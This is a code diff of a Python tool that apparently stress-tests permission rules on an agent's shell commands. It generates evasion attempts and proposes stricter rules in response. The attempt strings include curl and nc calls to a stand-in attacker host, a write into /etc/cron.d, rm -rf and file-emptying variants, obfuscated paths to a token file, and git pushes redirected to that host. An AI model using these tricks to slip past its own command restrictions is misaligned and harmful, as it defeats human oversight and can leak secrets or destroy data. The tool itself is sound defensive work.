@@ -26,9 +26,10 @@ from workbench.dialect.call_fields import CallField
 from workbench.dialect.text_tests import flags_named
 from workbench.language.trees import TRUE, Tree, joined
 
+_LOADS = "loads from the network"
 _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
     (
-        "loads from the network",
+        _LOADS,
         ("curl {url}", "wget {url}", "aria2c {url}", "http {url}", "lynx -dump {url}"),
     ),
     (
@@ -44,7 +45,7 @@ _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
             "git clean -fd",
         ),
     ),
-    ("deletes whole folders", ("rm -rf {file}", "rm -r -f {file}", "find {file} -delete")),
+    ("deletes whole folders", ("rm -rf {file}", "rm {file} -r", "rm -r -f {file}", "find {file} -delete")),
     (
         "talks to another machine",
         (
@@ -88,13 +89,22 @@ _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
     ("runs code", ("python x.py", "python3 x.py", "perl x.pl", "ruby x.rb", "node x.js", "php x.php")),
 )
 """Programs with the same effect."""
+_DELETING = re.compile(r"\b(?:delet|eras|remov|destroy|wip)")
+_OF_FOLDERS = re.compile(r"\b(?:folder|director|recursiv|tree|whole|forc)")
+"""What sentences say of deleting, and of deleting more than a file."""
+_EMPTYING = ("> {file}", ": > {file}", "cp /dev/null {file}", "dd if=/dev/null of={file}", "sed -i d {file}")
+"""Commands after which a file has nothing in it."""
+_NETWORK = re.compile(r"\b(?:network|internet|online|web)\b")
+_TO_A_HOST = (
+    "curl {url}", "wget {url}", "git clone {url}", "pip install {url}", "scp {file} {host}:",
+    "nc {host} 4444", "ssh {host}",
+)  # fmt: skip
+"""Commands that reach another machine."""
 _WITH_OTHER_CALLS = frozenset((
     "apt", "apt-get", "aptitude", "bun", "conda", "docker", "git", "nerdctl", "npm", "pip", "pip3", "pipx",
     "pnpm", "podman", "poetry", "snap", "systemctl", "uv", "yarn",
 ))  # fmt: skip
 """Programs of which only the named call has the effect."""
-_WITH_OTHER_FLAGS = frozenset(("find",))
-"""Programs of which only the call with the named flag has the effect."""
 _BY_OPTION = (
     ("overwrites what others pushed", ("--force", "-f"), "+"),
     ("deletes a branch", ("--delete", "-d"), ":"),
@@ -126,8 +136,14 @@ def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
         if attacked.is_raw(one):
             yield from _hidden_program(attacked, one)
             yield from _other_signs(attacked, one)
+            yield from _hidden_name(attacked, one)
         yield from _other_program(attacked, one)
+        yield from _emptied(attacked, one)
+        yield from _over_the_network(attacked, one)
+        yield from _more_than_read(attacked, one)
         yield from _by_operand(attacked, one)
+        yield from _to_branch(attacked, one)
+        yield from _to_another_remote(attacked, one)
         yield from _hidden_path(attacked, one)
         yield from _whole_folder(attacked, one)
 
@@ -137,7 +153,7 @@ def _with(attacked: Attacked, one: CallField, command: str) -> TriedCall:
 
 
 def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
-    """Another program beside one that is allowed, where a rule lets only some run."""
+    """Another program beside one that is allowed, or a file for what it shows, where only some may run."""
     evil = f"curl https://{EVIL_HOST}/x"
     if attacked.passes(_with(attacked, one, evil)):
         return
@@ -160,12 +176,32 @@ def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         f"{word} <({evil})",
     ]
     tries = tries_with(attacked, one, texts, "it runs a second program")
-    declaration = declaring(attacked, one, "command")
-    yield Attempt("second program", tries, lambda: _only(attacked, one, named), declaration)
+    advice = declaring(attacked, one, "command")
+    yield Attempt("second program", tries, lambda: _only(attacked, one, named), advice)
+    if named and all(map(_only_shows, {each.split()[0] for each in named})):
+        tries = tries_with(attacked, one, [f"{word} > /etc/cron.d/job"], "what it shows goes into a file")
+        yield Attempt("output in a file", tries, partial(_without_writing, attacked, one), advice)
+
+
+def _only_shows(program: str) -> bool:
+    """Whether a program is known to write and run nothing, or is in no table."""
+    from workbench.runs.kinds.command import COMMAND
+    from workbench.runs.kinds.shell.program_tables import PARTED, TABLES
+
+    if program in PARTED or program not in TABLES:
+        return program not in PARTED
+    parts = COMMAND.reader({"folder": "/"}).parts(f"{program} x y")
+    return parts["writes"] == parts["runs"] == frozenset()
 
 
 def _only(attacked: Attacked, one: CallField, named: Sequence[str]) -> Sequence[Effect]:
-    """The rule by which a command may start these programs alone."""
+    """The rule by which a command may start these programs alone, or has no sign that starts another."""
+    signs = [("in", text(each), attacked.value_of(one)) for each in (";", "&", "|", "\n", "$(", "`", "<(")]
+    plain = [narrower(attacked.rule, given(attacked, one, joined("or", signs)))] * attacked.is_raw(one)
+    return [*_of_programs_alone(attacked, one, named), *plain]
+
+
+def _of_programs_alone(attacked: Attacked, one: CallField, named: Sequence[str]) -> Sequence[Effect]:
     if not is_typed(one) or not named:
         return []
     calls = [" ".join(each.split()[:2]) for each in named]
@@ -201,12 +237,15 @@ def _hidden_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         is_call = bool(second) and not second.startswith("-")
         starts = text(" ".join(word.split()[:2]) if is_call else first)
         closing: Tree = ("in", starts, part(attacked, one, "calls" if is_call else "programs"))
-        if flags := flags_named(word):
-            closing = joined("and", [("in", text(flag), part(attacked, one, "flags")) for flag in flags])
+        if flags := flags_named(" ".join((first, *word.split()[1 + is_call :]))):
+            called = [closing] * is_call
+            closing = joined(
+                "and", [*called, *(("in", text(each), part(attacked, one, "flags")) for each in flags)]
+            )
         tries = tries_with(attacked, one, texts, f"it runs {word} too")
         rewritings = partial(typed_rewritings, attacked, one, closing, alone=len(named) == 1)
-        declaration = declaring(attacked, one, "command")
-        yield Attempt("hidden program", tries, rewritings, declaration, about=word)
+        advice = declaring(attacked, one, "command")
+        yield Attempt("hidden program", tries, rewritings, advice, about=word)
 
 
 def _other_signs(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
@@ -226,22 +265,115 @@ def _other_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     words = {word for bare in attacked.texts for word in bare.split()[:1]}
     known: set[str] = set()
     for effect, commands in _ALIKE:
+        is_said = _is_said(attacked, effect)
         filled = [each.format_map(_VALUES) for each in commands]
         closed = [
-            each for each in filled if each.split()[0] in words and attacked.stops(_with(attacked, one, each))
+            each
+            for each in (*filled, *[f"rm -rf {_VALUES['file']}"] * is_said)
+            if each.split()[0] in words and attacked.stops(_with(attacked, one, each))
         ]
         named = frozenset(each.split()[0] for each in closed)
-        if named <= known:
+        is_asked = effect == _LOADS and _NETWORK.search(attacked.sentence)  # of all that reach a host
+        if named <= known or is_asked:
             continue
         known |= named
-        others = [each for each in filled if each.split()[0] not in words]
-        only_by_flags = all(each.split()[0] in (*_WITH_OTHER_FLAGS, "git") for each in others)
+        others = [each for each in filled if is_said or each.split()[0] not in words]
+        only_by_flags = all(_is_by_flag(each) or each.split()[0] == "git" for each in others)
         if only_by_flags and not attacked.is_raw(one) and _is_by_name(attacked, named):
             continue
         why = f"it {effect} as {closed[0].split()[0]} does"
         by_options = any(flags_named(bare.strip()) for bare in attacked.texts)
         rewritings = partial(_others_too, attacked, one, others if by_options else [*closed, *others])
-        yield Attempt("other program", tries_with(attacked, one, others, why), rewritings, about=effect)
+        tries, advice = tries_with(attacked, one, others, why), declaring(attacked, one, "command")
+        yield Attempt("other program", tries, rewritings, advice, about=effect)
+
+
+def _is_said(attacked: Attacked, effect: str) -> bool:
+    """Whether a sentence speaks of an effect by its own word, so that more than one program is meant."""
+    is_deleting = _DELETING.search(attacked.sentence) is not None and " rm " not in f" {attacked.sentence} "
+    is_of_folders = _OF_FOLDERS.search(attacked.sentence) is not None
+    return is_deleting and (effect == "deletes whole folders" or (effect == "deletes" and not is_of_folders))
+
+
+def _emptied(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A command that empties a file, where a rule closes programs that delete."""
+    deleting = (_with(attacked, one, each.format_map(_VALUES)) for each in ("rm -rf {file}", "rm {file}"))
+    if not _is_said(attacked, "deletes") or not any(map(attacked.stops, deleting)):
+        return
+    texts = [each.format_map(_VALUES) for each in _EMPTYING]
+    tries, advice = (
+        tries_with(attacked, one, texts, "nothing is left in the file"),
+        declaring(attacked, one, "command"),
+    )
+    yield Attempt("emptied file", tries, partial(_without_writing, attacked, one), advice)
+
+
+def _over_the_network(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """Another way to a host, where a sentence speaks of the network and a rule closes some programs of it."""
+    closed = (_with(attacked, one, each.format_map(_VALUES)) for each in _TO_A_HOST[:2])
+    if not _NETWORK.search(attacked.sentence) or not any(map(attacked.stops, closed)):
+        return
+    texts = [each.format_map(_VALUES) for each in _TO_A_HOST]
+    hosts: Tree = (">", ("call", "len", part(attacked, one, "hosts")), ("lit", "int", 0))
+    effects = [narrower(attacked.rule, given(attacked, one, hosts))] * is_typed(one)
+    tries = tries_with(attacked, one, texts, f"it reaches {EVIL_HOST}, too")
+    yield Attempt(
+        "way to a host",
+        tries,
+        partial(list[Effect], effects),
+        declaring(attacked, one, "command"),
+        about="network",
+    )
+
+
+def _without_writing(attacked: Attacked, one: CallField) -> Sequence[Effect]:
+    """The rule that stops every command which writes a file."""
+    rule, number = attacked.rule, ("call", "len", part(attacked, one, "writes"))
+    if not is_typed(one):
+        return [narrower(rule, given(attacked, one, ("in", text(">"), attacked.value_of(one))))]
+    if rule.form == "permit":
+        nothing = joined("and", [rule.condition, ("==", number, ("lit", "int", 0))])
+        return [Effect({rule.name: rule.with_condition(nothing)})]
+    return [narrower(rule, given(attacked, one, (">", number, ("lit", "int", 0))))]
+
+
+def _more_than_read(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A command that changes or deletes a file which a rule closes to those that read it."""
+    rules = stopping_alike(attacked, attacked.call_type.name)
+    spoken = set[str]().union(*(each.reading.parts.get(one.name, ()) for each in rules))
+    if "reads" not in attacked.reading.parts[one.name] or not spoken.isdisjoint(("writes", "paths")):
+        return
+    for closed in _likely_files(attacked):
+        if attacked.stops(_with(attacked, one, f"cat {closed.file}")) and attacked.passes(
+            _with(attacked, one, f"cat {closed.other}")
+        ):
+            commands = [f"{program} {closed.file}" for program in ("rm", "tee", "touch")]
+            texts = [*commands, f"cat {closed.other} > {closed.file}"]
+            tries = tries_with(attacked, one, texts, f"it does more to {closed.file} than read it")
+            yield Attempt("stronger command", tries, partial(_of_written_too, attacked, one))
+            return
+
+
+def _of_written_too(attacked: Attacked, one: CallField) -> Sequence[Effect]:
+    """The rule that says of the files which a command writes what it says of those that it reads."""
+    rule, reads, writes = attacked.rule, part(attacked, one, "reads"), part(attacked, one, "writes")
+
+    def of_written(said: Tree) -> Tree:
+        for place, tree in [*places(said)]:
+            said = replaced(said, place, writes) if tree == reads else said
+        return said
+
+    condition = rule.condition
+    if rule.form != "permit":
+        return [narrower(rule, of_written(condition))]
+    parts = condition[1:] if condition[0] == "and" else (condition,)
+    more = [said for part_ in parts if (said := of_written(part_)) != part_]
+    return [Effect({rule.name: rule.with_condition(joined("and", [condition, *more]))})]
+
+
+def _is_by_flag(command: str) -> bool:
+    """Whether a program has the effect only by the flag with which its call ends."""
+    return command.split()[-1].startswith("-")
 
 
 def _is_by_name(attacked: Attacked, programs: frozenset[str]) -> bool:
@@ -254,7 +386,7 @@ def _others_too(attacked: Attacked, one: CallField, commands: Sequence[str]) -> 
     if not is_typed(one):
         return []
     calls = [each for each in commands if each.split()[0] in _WITH_OTHER_CALLS]
-    flags = [each for each in commands if each.split()[0] in _WITH_OTHER_FLAGS]
+    flags = [each for each in commands if _is_by_flag(each) and each not in calls]
     open_ = [each for each in (*calls, *flags) if not attacked.stops(_with(attacked, one, each))]
     names = [*dict.fromkeys(each.split()[0] for each in commands if each not in (*calls, *flags))]
     parts = (
@@ -323,6 +455,7 @@ def _by_operand(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         if not attacked.passes(plain) or not any(map(attacked.stops, by_option)):
             continue
         texts = [f"git push origin {sign}main", "git push --mirror origin"]
+        texts += ["git push --force-with-lease origin main"] * (sign == "+")
         tries = tries_with(attacked, one, texts, f"it {does} without {options[0]}")
         rewritings = partial(_no_operand, attacked, one, sign)
         yield Attempt("operand", tries, rewritings, declaring(attacked, one, "command"), about=does)
@@ -335,19 +468,103 @@ def _no_operand(attacked: Attacked, one: CallField, sign: str) -> Sequence[Effec
         ("==", ("attr", program, name), text(value)) for name, value in (("name", "git"), ("first", "push"))
     ]
     signed: Tree = ("gen", word, ("method", word, "startswith", text(sign)), ("attr", program, "words"), TRUE)
-    mirrors: Tree = ("in", text("--mirror"), ("attr", program, "options"))
-    said = joined("and", [*pushes, joined("or", [("call", "any", signed), mirrors])])
+    options = ["--mirror", *["--force-with-lease"] * (sign == "+")]
+    others = [("in", text(each), ("attr", program, "options")) for each in options]
+    said = joined("and", [*pushes, joined("or", [("call", "any", signed), *others])])
     closing: Tree = ("call", "any", ("gen", program, said, part(attacked, one, "started"), TRUE))
     if not is_typed(one):
         value = attacked.value_of(one)
-        texts = [("in", text(each), value) for each in (f" {sign}", "--mirror")]
+        texts = [("in", text(each), value) for each in (f" {sign}", *options)]
         closing = joined("and", [("in", text("push"), value), joined("or", texts)])
     return [narrower(attacked.rule, given(attacked, one, closing))]
 
 
+def _to_branch(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """Another way by which git pushes to a branch that a rule closes by its name."""
+    if not attacked.passes(_with(attacked, one, "git push origin topic")):
+        return
+    words = [word for bare in attacked.texts for word in bare.split()]
+    named = (word for word in dict.fromkeys((*words, *_BRANCHES)) if re.fullmatch(r"\w[\w./-]*", word))
+    branch = next(
+        (each for each in named if attacked.stops(_with(attacked, one, f"git push origin {each}"))), ""
+    )
+    if not branch:
+        return
+    texts = [each.format(branch=branch) for each in _PUSHES]
+    tries = tries_with(attacked, one, texts, f"git pushes to {branch} by it, where that is checked out")
+    rewritings = partial(_closed_pushes, attacked, one, _pushing_to(branch))
+    yield Attempt("branch", tries, rewritings, declaring(attacked, one, "command"), about=branch)
+
+
+_BRANCHES = ("main", "master")
+_PUSHES = (
+    "git push origin HEAD:{branch}", "git push origin HEAD:refs/heads/{branch}", "git push origin +{branch}",
+    "git push origin refs/heads/{branch}", "git push origin HEAD", "git push --all origin",
+    "git push --mirror origin", "git push origin :", "git push origin", "git push",
+)  # fmt: skip
+"""Commands that push to the branch which is checked out, and may be told to push to another."""
+
+
+def _pushing_to(branch: str) -> Tree:
+    """That a push, called "p", may go to a branch: it names it, another name for it, all, or none."""
+    word, words = ("name", "w"), ("attr", ("name", "p"), "words")
+    ends = [("method", word, "endswith", text(f"{sign}{branch}")) for sign in (":", "/")]
+    begins = [("method", word, "startswith", text(sign)) for sign in ("+", ":")]
+    names = [among(word, [branch, "HEAD", "@"]), *ends, *begins, ("in", text("*"), word)]
+    named: Tree = ("call", "any", ("gen", word, joined("or", names), words, TRUE))
+    others: list[Tree] = [("not", ("method", word, "startswith", text("-")))]
+    others += [
+        among(word, ["push", "origin"], negative=True),
+        ("!=", word, ("attr", ("name", "p"), "second")),
+    ]
+    none: Tree = ("not", ("call", "any", ("gen", word, joined("and", others), words, TRUE)))
+    options = [("in", text(each), ("attr", ("name", "p"), "options")) for each in ("--all", "--mirror")]
+    return joined("or", [named, none, *options])
+
+
+def _closed_pushes(attacked: Attacked, one: CallField, condition: Tree, *more: Tree) -> Sequence[Effect]:
+    """The rule that also stops a push, called "p", of which a condition holds, and what else is given."""
+    if not is_typed(one):
+        return []
+    program: Tree = ("name", "p")
+    pushes = [
+        ("==", ("attr", program, name), text(value)) for name, value in (("name", "git"), ("first", "push"))
+    ]
+    said = joined("and", [*pushes, condition])
+    closing: Tree = ("call", "any", ("gen", program, said, part(attacked, one, "started"), TRUE))
+    return [narrower(attacked.rule, given(attacked, one, joined("or", [closing, *more])))]
+
+
+def _to_another_remote(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A push to another repository, where a rule lets git push to a remote by its name."""
+    url = f"https://{EVIL_HOST}/x.git"
+    push = next((each for each in _TO_ORIGIN if attacked.passes(_with(attacked, one, each))), "")
+    if not push or not attacked.stops(_with(attacked, one, f"git push {url} topic")):
+        return
+    changes = [
+        f"git remote {does} {url}" for does in ("set-url origin", "set-url --push origin", "add other")
+    ]
+    why = f"the push goes to {EVIL_HOST}"
+    texts = [f"git push {url} origin", f"{changes[0]} && {push}"]
+    tries = [*tries_with(attacked, one, texts, why)]
+    tries += [Try((_with(attacked, one, each), _with(attacked, one, push)), why) for each in changes[:2]]
+    word: Tree = ("name", "w")
+    signs = [("in", text(each), word) for each in ("://", "@")]
+    paths = [("method", word, "startswith", text(each)) for each in ("/", ".", "~")]
+    elsewhere: Tree = ("gen", word, joined("or", [*signs, *paths]), ("attr", ("name", "p"), "words"), TRUE)
+    call: Tree = ("name", "c")
+    changed: Tree = ("gen", call, among(call, _OF_REMOTES), part(attacked, one, "calls"), TRUE)
+    rewritings = partial(_closed_pushes, attacked, one, ("call", "any", elsewhere), ("call", "any", changed))
+    yield Attempt("other remote", tries, rewritings, declaring(attacked, one, "command"), about=push)
+
+
+_TO_ORIGIN = ("git push origin topic", "git push origin main", "git push origin", "git push")
+_OF_REMOTES = ("git config", "git remote add", "git remote remove", "git remote rename", "git remote set-url")
+
+
 def _word_of(command: Sequence[str]) -> int:
     """The place of the word that tells what a program does: its flag, or the first one."""
-    return -1 if command[0] in _WITH_OTHER_FLAGS else 1
+    return -1 if _is_by_flag(" ".join(command)) else 1
 
 
 def _is_of_words(tree: Tree, started: Tree) -> bool:
@@ -382,6 +599,8 @@ def _hidden_path(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         texts = [
             f"cat $(echo {folder[:-3]}){folder[-3:]}/token",
             f"cd {up} && cat {last}/token",
+            f"cd {folder} && cat token",
+            f"pushd {folder} && cat token",
             f"cat {parent}/./{last}/token",
             f'cat {parent}/"{last[:half]}"{last[half:]}/token',
             f"cat {parent}/{last[0]}*/token",
@@ -390,9 +609,31 @@ def _hidden_path(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
             f"P={folder[:-2]}; cat ${{P}}{folder[-2:]}/token",
         ]
         tries = tries_with(attacked, one, texts, f"it opens what is in {folder}")
-        yield Attempt(
-            "path in a command", tries, partial(_closed_folder, attacked, one, folder), about=folder
+        rewritings, advice = (
+            partial(_closed_folder, attacked, one, folder),
+            declaring(attacked, one, "command"),
         )
+        yield Attempt("path in a command", tries, rewritings, advice, about=folder)
+
+
+def _hidden_name(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A file that a rule closes by its name, spelled otherwise or within a folder that a program copies."""
+    for name in (bare.strip() for bare in attacked.texts):
+        if not re.fullmatch(r"\.?\w[\w-]*(?:\.[\w-]+)*", name) or "." not in name:
+            continue
+        if not attacked.stops(_with(attacked, one, f"cat {name}")):
+            continue
+        texts = [f"cat {name[:2]}*", f"cat {name[:2]}''{name[2:]}", "grep -r x .", "cp -r . /tmp/all"]
+        path: Tree = ("name", "p")
+        begins: Tree = ("method", ("attr", path, "name"), "startswith", text(name))
+        closed: Sequence[Tree] = (
+            ("call", "any", ("gen", path, begins, part(attacked, one, "paths"), TRUE)),
+            (">", ("call", "len", part(attacked, one, "trees")), ("lit", "int", 0)),
+        )
+        tries = tries_with(attacked, one, texts, f"it opens {name}")
+        rewritings = partial(typed_rewritings, attacked, one, joined("or", closed), alone=False)
+        advice = declaring(attacked, one, "command")
+        yield Attempt("path in a command", tries, rewritings, advice, about=name)
 
 
 def _closed_folder(attacked: Attacked, one: CallField, folder: str) -> Sequence[Effect]:
@@ -432,7 +673,7 @@ def _whole_folder(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     closed = [*islice(_closed_files(attacked, one), _MOST_CLOSED)]
     tries = [each for file, whole in closed for each in _whole_tries(attacked, one, file, whole)]
     advice = "say in which folders a tree may lie; git diff and pytest go through theirs, and may be denied"
-    yield Attempt("whole folder", tries, partial(_no_trees, attacked, one, closed), advice=advice)
+    yield Attempt("whole folder", tries, partial(_no_trees, attacked, one, closed), advice)
 
 
 def _whole_tries(
